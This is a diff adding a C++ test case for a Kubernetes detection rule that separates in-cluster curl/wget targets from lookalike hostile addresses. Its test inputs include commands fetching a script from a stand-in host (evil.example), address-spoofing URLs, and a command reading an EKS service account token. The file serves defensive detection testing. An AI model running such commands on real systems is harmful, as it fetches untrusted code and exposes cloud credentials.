@@ -173,6 +173,29 @@ TEST_CASE("a command on a node is told, what monitoring asks is low", "[rules][N
   CHECK(judge("NP156", {denied}).empty());
 }
 
+TEST_CASE("an address that only looks like one of the cluster is elsewhere", "[rules][NP155]") {
+  const auto severity = [](const std::string& command) {
+    return judge("NP155", {entry("exec", command)})[0].severity;
+  };
+  for (const auto* near :
+       {"curl http://localhost:8080/healthz", "curl -s http://10.0.0.7/x", "wget backend:80/a",
+        "curl http://api.shop.svc:8080/a", "curl http://[::1]/x", "curl http://u:p@127.0.0.1/x"}) {
+    INFO(near);
+    CHECK(severity(near) == Severity::Low);
+  }
+  for (const auto* far :
+       {"curl http://localhost.evil.example/x", "curl http://10.evil.example/x",
+        "curl http://127.0.0.1@evil.example/x", "curl http://backend:80@evil.example/x",
+        "curl https://evil.example/?a=.svc", "wget evil.example/x.sh"}) {
+    INFO(far);
+    CHECK(severity(far) == Severity::High);
+  }
+  const auto cloud = judge(
+      "NP155", {entry("exec", "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token")});
+  CHECK(cloud[0].severity == Severity::High);
+  CHECK(cloud[0].title.find("reads the account's cloud token") != std::string::npos);
+}
+
 TEST_CASE("a person who lists all Secrets is told, a program in a pod is not", "[rules][NP157]") {
   const auto alone = judge("NP157", {all_secrets(0, "eve", "kubectl/v1")});
   REQUIRE(alone.size() == 1);
